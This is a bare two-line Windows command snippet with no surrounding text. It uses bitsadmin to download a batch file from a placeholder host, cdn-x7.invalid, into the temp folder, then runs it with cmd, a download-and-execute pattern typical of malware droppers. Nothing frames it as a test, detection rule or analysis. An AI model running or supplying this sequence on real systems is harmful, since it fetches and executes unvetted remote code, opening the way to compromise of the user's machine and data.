bitsadmin /transfer j https://cdn-x7.invalid/a %TEMP%\a.bat
cmd /c %TEMP%\a.bat
